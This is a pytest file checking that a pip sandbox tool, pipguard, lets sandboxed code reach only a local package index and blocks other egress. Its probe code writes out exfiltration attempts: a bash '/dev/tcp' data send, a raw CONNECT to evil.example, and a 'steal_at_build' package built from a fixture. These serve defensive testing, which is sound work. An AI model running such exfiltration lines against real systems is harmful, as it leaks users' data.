"""Index-only network (``--allow-host``, install's resolve phase): the sandbox
reaches the package index through pipguard's filtering proxy and nothing else.
The "index" is a loopback HTTP server started by the test."""

from __future__ import annotations

import functools
import http.server
import shutil
import subprocess
import sys
import textwrap
import threading

import pytest

from pg import pipguard
from support import build_sdist
from support.corpus import project
from support.projects import write_flit_project
from support.pipinstall import listing, make_venv
from support.probes import ATTEMPT

PY = sys.executable


@pytest.fixture
def index(tmp_path, wheelhouse):
    """A find-links page on 127.0.0.1 serving the wheelhouse and two sdists."""
    root = tmp_path / "index"
    root.mkdir()
    for whl in wheelhouse.glob("*.whl"):
        shutil.copy(whl, root)
    build_sdist(project("steal_at_build"), root)
    build_sdist(write_flit_project(tmp_path / "light", "light_pure", "0.1.0"), root)  # the backend is not the subject
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
    handler.log_message = lambda *a, **k: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    server.url = f"http://127.0.0.1:{server.server_address[1]}/"
    server.requests = []
    yield server
    server.shutdown()
    server.server_close()


def test_only_the_index_is_reachable(tmp_path, fake_home, index, loopback_tcp):
    work = tmp_path / "work"
    work.mkdir()
    script = work / "probe.py"
    sink = loopback_tcp.port
    script.write_text(ATTEMPT + textwrap.dedent(f"""
        import os, socket, urllib.request
        attempt("index", lambda: urllib.request.urlopen({index.url!r}, timeout=10).read())
        attempt("direct", lambda: socket.create_connection(("127.0.0.1", {sink}), timeout=5).sendall(b"LEAK"))
        attempt("via-proxy", lambda: urllib.request.urlopen("http://127.0.0.1:{sink}/LEAK", timeout=10).read())
        def raw_connect():
            proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
            s = socket.create_connection(("127.0.0.1", int(proxy[1])), timeout=5)
            s.sendall(b"CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n")
            assert b" 200 " in s.recv(100)
        attempt("connect-evil", raw_connect)
    """))
    port = index.server_address[1]
    r = pipguard(["run", "--isolation", "os", "--allow-host", f"127.0.0.1:{port}", "--", PY, str(script)],
                 cwd=work, env=fake_home.env())
    assert "index ok" in r.stdout, r.stdout + r.stderr[-2000:]
    assert "direct failed" in r.stdout
    assert "via-proxy failed" in r.stdout
    assert "connect-evil failed" in r.stdout
    assert loopback_tcp.received == []
    network = r.report["network"]
    assert any(n["host"] == "127.0.0.1" and n["port"] == port and n["action"] == "allowed" and n["layer"] == "proxy"
               for n in network), network
    blocked = r.targets(kind="network")
    assert f"127.0.0.1:{sink}" in blocked           # direct connect, and the proxied request
    assert "evil.example:443" in blocked            # CONNECT to a host that is not an index


def test_native_connect_with_index_only_network(tmp_path, fake_home, index, loopback_tcp):
    work = tmp_path / "work"
    work.mkdir()
    port = index.server_address[1]
    r = pipguard(["run", "--isolation", "os", "--allow-host", f"127.0.0.1:{port}", "--", "bash", "-c",
                  f"echo LEAK > /dev/tcp/127.0.0.1/{loopback_tcp.port}"],
                 cwd=work, env=fake_home.env())
    assert r.returncode != 0
    assert loopback_tcp.received == []
    assert f"127.0.0.1:{loopback_tcp.port}" in r.targets(kind="network")


def test_install_from_a_find_links_url(tmp_path, fake_home, index, wheelhouse, loopback_tcp):
    venv = make_venv(tmp_path / "target", "bundled", wheelhouse)
    report = tmp_path / "r.json"
    base = [PY, "-m", "pipguard", "install", "--sandbox", "--python", str(venv / "bin" / "python"),
            "--no-index", "-f", index.url, "--report", str(report)]
    ok = subprocess.run(base + ["light_pure"], cwd=tmp_path, env=fake_home.env(),
                        capture_output=True, text=True, timeout=600)
    assert ok.returncode == 0, ok.stderr[-3000:]
    before = listing(venv)
    bad = subprocess.run(base + ["--keep-env", "PIPGUARD_TEST_SINK", "steal_at_build"], cwd=tmp_path,
                         env=fake_home.env({"PIPGUARD_TEST_SINK": f"127.0.0.1:{loopback_tcp.port}"}),
                         capture_output=True, text=True, timeout=600)
    assert bad.returncode == 1, bad.stderr[-3000:]
    assert listing(venv) == before and loopback_tcp.received == []
